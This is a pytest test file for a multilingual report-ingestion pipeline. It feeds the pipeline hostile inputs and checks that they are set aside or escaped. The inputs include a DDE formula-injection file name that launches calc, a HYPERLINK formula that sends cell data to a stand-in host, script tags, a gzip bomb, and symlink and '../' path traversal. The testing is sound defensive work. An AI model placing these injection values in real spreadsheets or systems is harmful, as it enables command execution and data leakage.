"""A folder that holds everything that goes wrong: good reports are read, the rest is listed."""

from __future__ import annotations

import csv
import gzip
import io
import os
import random
import re
import subprocess
import sys
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet
import pytest

import pipeline
from pipeline.schema import MENTIONS, TABLES
from tests.conftest import Contents

ROOT = Path(__file__).resolve().parents[2]

KOREAN = (
    "5월 14일 오전, 안장성 인민위원회는 2024년 애국 경쟁 운동 결산 회의를 개최했다.\n"
    "회의에서 성 인민위원회는 7개 단체에 경쟁 깃발을, 31명의 개인에게 표창장을 수여했다.\n"
)
TURKISH = (
    "14 Mayıs 2025 sabahı An Giang ili Halk Komitesi bir özet konferansı düzenledi.\n"
    "İl Halk Komitesi 31 kişiye liyakat belgesi verdi ve çalışmaları övdü.\n"
)
HINDI = (
    "14 मई 2025 की सुबह एन जियांग प्रांत की जन समिति ने एक सम्मेलन आयोजित किया।\n"
    "प्रांतीय जन समिति ने 31 व्यक्तियों को योग्यता प्रमाण पत्र प्रदान किए।\n"
)
ARABIC = (
    "في صباح يوم 14 مايو 2025 عقدت اللجنة الشعبية لمقاطعة آن جيانغ مؤتمرا لتلخيص حركة المحاكاة.\n"
    "ومنحت اللجنة الشعبية للمقاطعة شهادات تقدير إلى 31 فردا.\n"
)
PERSIAN = (
    "صبح روز ۱۴ مه ۲۰۲۵ کمیته مردمی استان آن جیانگ همایشی برای جمع‌بندی جنبش رقابت برگزار کرد.\n"
    "در این همایش که گروهی از پژوهشگران نیز حضور داشتند، به ۳۱ نفر تقدیرنامه داده شد.\n"
)
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
PAGE = (
    '<html lang="tr"><head><title>Konferans</title><script>document.write("90 bayrak")</script>'
    f"</head><body><article><p>{TURKISH}</p><script>alert('80 bayrak')</script>"
    '<p onclick="alert(1)">Törene katılanlar hatıra fotoğrafı çektirdi.</p></article>'
    "</body></html>"
)
DEEP = "/".join(["deep"] * 60)


def json_lines(*lines: str) -> bytes:
    return "".join(f"{line}\n" for line in lines).encode()


def csv_rows(*rows: tuple[str, ...]) -> bytes:
    table = io.StringIO()
    csv.writer(table).writerows(rows)
    return table.getvalue().encode("utf-8-sig")


CALCULATED = "=cmd|' /C calc'!A0.txt"
TWO_LINES = r"two\x0alines \x1b[31m.txt"
"""Names of two files as the tables show them."""

FILES: Mapping[bytes, bytes] = {
    b"utf8.txt": TURKISH.encode(),
    b"euc_kr.txt": KOREAN.encode("euc_kr"),
    b"utf16.txt": HINDI.encode("utf-16"),
    b"arabic.txt.gz": gzip.compress(ARABIC.encode(), mtime=0),
    b"lines.jsonl": json_lines(
        '{"text": "3월 8일 오전, 성 인민위원회는 9개 단체에 표창장을 수여했다.", "title": "표창"}',
        '{"text": "3월 8일 오전, 성 인',
        '{"text": "9 Mart 2025 tarihinde il Halk Komitesi 12 kişiye liyakat belgesi verdi."}',
    ),
    b"cells.csv": csv_rows(
        ("text", "title", "source", "url"),
        (f"=SUM(A1:A9) {TURKISH}", FORMULA, "@SUM(1)", "-2+3"),
        (f"+1 {TURKISH} Dördüncü kez.", "\t=1+1", "＝1+1", ""),
    ),
    b"page.html": PAGE.encode(),
    b"two\nlines \x1b[31m.txt": KOREAN.replace("14", "15").encode(),
    b"caf\xe9.txt": HINDI.replace("14", "15").encode(),
    CALCULATED.encode(): ARABIC.replace("14", "15").encode(),
    f"{DEEP}/deep.txt".encode(): TURKISH.replace("14", "15").encode(),
    b"persian.txt": PERSIAN.encode(),
    b"metadata.csv": csv_rows(
        ("path", "title", "source", "published_on", "language"),
        ("utf8.txt", FORMULA, "Báo An Giang", "2025-05-15", "tr"),
        ("euc_kr.txt", "회의", "", "the day after", ""),
        ("gone.txt", "", "", "", ""),
        ("../outside.txt", "", "", "", ""),
    ),
    b"judgements.csv": csv_rows(
        ("left", "right", "decision", "who", "when", "why"),
        (f"'{CALCULATED}", TWO_LINES, "same", FORMULA, "2025-05-16", "\x1b[2J\u202eone event"),
        (TWO_LINES, CALCULATED, "different", "", "", ""),
        ("utf8.txt", "../outside.txt", "same", "", "", ""),
        ("utf8.txt", "euc_kr.txt", "\x07", "", "", ""),
    ),
    b"empty.txt": b"",
    b"random.txt": random.Random(20).randbytes(1024),
    b"picture.txt": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + random.Random(21).randbytes(300),
    b"bomb.txt.gz": gzip.compress(bytes(20_000_000), mtime=0),
    b"twice.txt.gz": gzip.compress(gzip.compress(ARABIC.encode(), mtime=0), mtime=0),
    b"minutes.docx": b"PK\x03\x04 not read",
    b"large.txt": TURKISH.encode() * (6_000_000 // len(TURKISH)),
}
LINKS: Mapping[bytes, bytes] = {
    b"self.txt": b"self.txt",
    b"deep/up": b"..",
    b"outside.txt": b"../outside.txt",
    b"parent": b"..",
}
READ = {
    ("utf8.txt", 0): ("tr", "utf-8"),
    ("euc_kr.txt", 0): ("ko", "euc_kr"),
    ("utf16.txt", 0): ("hi", "utf-16-le"),
    ("arabic.txt.gz", 0): ("ar", "utf-8"),
    ("lines.jsonl", 0): ("ko", "utf-8"),
    ("lines.jsonl", 2): ("tr", "utf-8"),
    ("cells.csv", 0): ("tr", "utf-8-sig"),
    ("cells.csv", 1): ("tr", "utf-8-sig"),
    ("page.html", 0): ("tr", "utf-8"),
    (TWO_LINES, 0): ("ko", "utf-8"),
    (r"caf\xe9.txt", 0): ("hi", "utf-8"),
    (CALCULATED, 0): ("ar", "utf-8"),
    (f"{DEEP}/deep.txt", 0): ("tr", "utf-8"),
    ("persian.txt", 0): ("fa", "utf-8"),
}
"""Path and record of every report that can be read: its language and encoding."""
SET_ASIDE = {
    ("empty.txt", "empty_file", "error"),
    ("random.txt", "binary_file", "error"),
    ("picture.txt", "binary_file", "error"),
    ("lines.jsonl", "malformed_record", "error"),
    ("bomb.txt.gz", "gzip_bomb", "error"),
    ("twice.txt.gz", "nested_gzip", "error"),
    ("large.txt", "too_large", "error"),
    ("minutes.docx", "unknown_file_type", "note"),
    ("self.txt", "link_loop", "warning"),
    ("deep/up", "link_loop", "warning"),
    ("outside.txt", "link_leaves_folder", "warning"),
    ("parent", "link_leaves_folder", "warning"),
    ("metadata.csv", "metadata_unusable", "warning"),
    ("metadata.csv", "metadata_without_file", "note"),
    ("judgements.csv", "judgement_contradiction", "warning"),
    ("judgements.csv", "judgement_unusable", "warning"),
    ("judgements.csv", "judgement_without_report", "warning"),
}
EXECUTABLE = re.compile("[=+@\t\r\n\uff0b\uff0d\uff1d\uff20-]")


def build(folder: Path, order: Callable[[list[bytes]], object]) -> Path:
    """Make the folder, its entries in some order, beside a file that it must not reach."""
    raw = folder / "raw"
    raw.mkdir(parents=True)
    (folder / "outside.txt").write_text("Bu dosya okunmamalı: 77 bayrak verildi.", "utf-8")
    names = [*FILES, *LINKS]
    order(names)
    for name in names:
        place = Path(os.fsdecode(os.fsencode(raw) + b"/" + name))
        place.parent.mkdir(parents=True, exist_ok=True)
        if name in LINKS:
            place.symlink_to(os.fsdecode(LINKS[name]))
        else:
            place.write_bytes(FILES[name])
    return raw


@dataclass(frozen=True)
class Done:
    """A run that has ended."""

    raw: Path
    out: Path
    process: subprocess.CompletedProcess[str]


def run(raw: Path, out: Path, workers: int, **environment: str) -> Done:
    command = [sys.executable, "-m", "pipeline", "run", "--raw", str(raw), "--out", str(out)]
    process = subprocess.run(
        [*command, "--workers", str(workers)],
        cwd=ROOT,
        env={**os.environ, **environment},
        capture_output=True,
        encoding="utf-8",
        check=False,
    )
    return Done(raw, out, process)


@pytest.fixture(scope="module")
def done(tmp_path_factory: pytest.TempPathFactory) -> Done:
    folder = tmp_path_factory.mktemp("hostile")
    raw = build(folder, list.sort)
    return run(raw, folder / "out", 1, PYTHONHASHSEED="0", TZ="UTC", LC_ALL="C.UTF-8")


@pytest.fixture(scope="module")
def corpus(done: Done) -> pipeline.Corpus:
    return pipeline.load(done.out)


def test_the_run_ends_well_and_says_what_was_set_aside(done: Done, corpus: pipeline.Corpus) -> None:
    assert done.process.returncode == 0, done.process.stderr
    assert done.process.stderr == ""
    said = dict(line.split("  ", 1) for line in done.process.stdout.splitlines())
    said = {name: text.strip() for name, text in said.items()}
    assert said["reports"] == "14 (ar 2, fa 1, hi 2, ko 3, tr 6)"
    n_files = len({path for path, _, _ in SET_ASIDE})
    assert said["set aside"] == f"{n_files} files, in whole or in part; see table issues"
    counts = {kind.table_name: len(getattr(corpus, kind.table_name)) for kind in MENTIONS}
    found = ", ".join(f"{name} {count}" for name, count in counts.items() if count)
    assert said["mentions"] == f"{sum(counts.values())} ({found})"
    for severity in ("error", "warning", "note"):
        n_issues = int((corpus.issues.severity == severity).sum())
        assert said[f"{severity}s"].startswith(f"{n_issues} (")
    assert said["tables"] == str(done.out)


def test_every_good_report_is_read(corpus: pipeline.Corpus) -> None:
    documents = corpus.documents
    assert {
        (row.path, row.record): (row.language, row.encoding) for row in documents.itertuples()
    } == READ
    texts = documents[documents.record == 0].set_index("path").text
    assert texts["euc_kr.txt"] == KOREAN
    assert texts["utf16.txt"] == HINDI
    assert texts["cells.csv"].startswith("=SUM(A1:A9) ")
    assert documents.set_index("path").title["utf8.txt"] == FORMULA
    pages = texts["page.html"]
    assert "31 kişiye" in pages
    assert "bayrak" not in pages
    assert not documents.text.str.contains("77 bayrak").any()


def test_facts_come_from_every_good_report(corpus: pipeline.Corpus) -> None:
    by_id = corpus.documents.set_index("doc_id")
    awards = corpus.awards.assign(path=corpus.awards.doc_id.map(by_id.path))
    assert set(awards.path) == {path for path, _ in READ} - {"persian.txt"}
    for path in ("utf8.txt", "utf16.txt", "arabic.txt.gz"):
        assert awards[awards.path == path]["count"].tolist() == [31]
    assert awards[awards.path == "euc_kr.txt"]["count"].tolist() == [7, 31]
    assert sorted(awards[awards.path == "lines.jsonl"]["count"]) == [9, 12]
    persian = by_id.index[by_id.path == "persian.txt"].item()
    for kind in MENTIONS:
        assert persian not in set(getattr(corpus, kind.table_name).doc_id)


def test_everything_else_is_an_issue(corpus: pipeline.Corpus) -> None:
    issues = corpus.issues
    aside = issues[issues.doc_id.isna() & issues.path.notna()]
    found = [(row.path, row.code, row.severity) for row in aside.itertuples()]
    twice = ("metadata.csv", "metadata_without_file", "note")
    assert sorted(found) == sorted([*SET_ASIDE, twice])
    details = aside[aside.code == "metadata_without_file"].detail
    assert sorted(detail.rsplit(" ", 1)[1] for detail in details) == ["../outside.txt", "gone.txt"]
    (unsupported,) = issues[issues.code == "unsupported_language"].itertuples()
    assert unsupported.path == "persian.txt"
    assert not (issues.code == "stage_failed").any()


def test_what_a_person_judges_holds(corpus: pipeline.Corpus) -> None:
    events = corpus.documents.merge(corpus.reports, on="doc_id").set_index("path").event_id
    assert events[CALCULATED] == events[TWO_LINES]
    (judged,) = corpus.links[corpus.links.decided_by == "person"].itertuples()
    assert judged.decision == "same"


def test_what_people_read_is_printable(corpus: pipeline.Corpus) -> None:
    assert corpus.issues.detail.map(str.isprintable).all()
    for table in (corpus.documents, corpus.issues):
        assert table.path.dropna().map(str.isprintable).all()


def test_every_surface_is_where_its_offsets_say(corpus: pipeline.Corpus) -> None:
    texts = corpus.documents.set_index("doc_id").text
    checked = 0
    for kind in MENTIONS:
        for row in getattr(corpus, kind.table_name).dropna(subset=["start"]).itertuples():
            assert texts[row.doc_id][row.start : row.end] == row.surface
            checked += 1
    assert checked > 40


def cells(file: Path) -> Iterator[dict[str, str]]:
    before = csv.field_size_limit(10_000_000)
    try:
        with file.open(encoding="utf-8-sig", newline="") as source:
            yield from csv.DictReader(source, strict=True)
    finally:
        csv.field_size_limit(before)


def test_csv_holds_the_parquet_cells_and_no_formula(done: Done) -> None:
    escaped = 0
    for name in TABLES:
        assert (done.out / f"{name}.csv").read_bytes().startswith(b"\xef\xbb\xbf")
        table = pyarrow.parquet.read_table(done.out / f"{name}.parquet")
        texts = [field.name for field in table.schema if pa.types.is_string(field.type)]
        numbers = {
            field.name
            for field in table.schema
            if pa.types.is_integer(field.type) or pa.types.is_floating(field.type)
        }
        for row, stored in zip(cells(done.out / f"{name}.csv"), table.to_pylist(), strict=True):
            assert list(row) == table.column_names
            for column in texts:
                value = stored[column] or ""
                dangerous = EXECUTABLE.match(value) is not None
                assert row[column] == (f"'{value}" if dangerous else value)
                escaped += dangerous
            for column in set(row) - numbers:
                assert EXECUTABLE.match(row[column]) is None
    assert escaped > 5


def test_the_database_holds_the_parquet_rows(done: Done, corpus: pipeline.Corpus) -> None:
    with duckdb.connect(str(done.out / "corpus.duckdb"), read_only=True) as connection:
        names = [name for (name,) in connection.sql("SHOW TABLES").fetchall()]
        assert sorted(names) == sorted(TABLES)
        for name in TABLES:
            stored = pyarrow.parquet.read_table(done.out / f"{name}.parquet")
            found = connection.sql(f"SELECT * FROM {name}").to_arrow_table()
            assert found.column_names == stored.column_names
            assert found.to_pylist() == stored.to_pylist()
    answer = corpus.sql("SELECT language, count(*) AS n FROM documents GROUP BY 1 ORDER BY 1")
    assert dict(zip(answer.language, answer.n, strict=True)) == {
        "ar": 2, "fa": 1, "hi": 2, "ko": 3, "tr": 6,
    }  # fmt: skip
    corpus.validate()


def test_how_it_is_run_leaves_no_trace(done: Done, tmp_path: Path, contents: Contents) -> None:
    raw = build(tmp_path, random.Random(2).shuffle)
    settings = {"PYTHONHASHSEED": "1", "TZ": "Asia/Kathmandu", "LC_ALL": "C", "LANG": "tr_TR"}
    again = run(raw, tmp_path / "out", 2, **settings)
    assert (again.process.returncode, again.process.stderr) == (0, "")
    assert contents(again.out) == contents(done.out)


@pytest.mark.skipif(
    not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root may read every file"
)
def test_a_file_that_may_not_be_read_is_an_issue(tmp_path: Path) -> None:
    raw = tmp_path / "raw"
    (raw / "closed").mkdir(parents=True)
    (raw / "good.txt").write_text(TURKISH, "utf-8")
    (raw / "secret.txt").write_text(TURKISH, "utf-8")
    (raw / "secret.txt").chmod(0)
    (raw / "closed").chmod(0)
    try:
        ended = run(raw, tmp_path / "out", 1)
    finally:
        (raw / "closed").chmod(0o700)
    assert (ended.process.returncode, ended.process.stderr) == (0, "")
    corpus = pipeline.load(tmp_path / "out")
    assert corpus.documents.path.tolist() == ["good.txt"]
    found = corpus.issues[corpus.issues.doc_id.isna()]
    assert list(zip(found.path, found.code, strict=True)) == [
        ("closed", "unreadable"),
        ("secret.txt", "unreadable"),
    ]
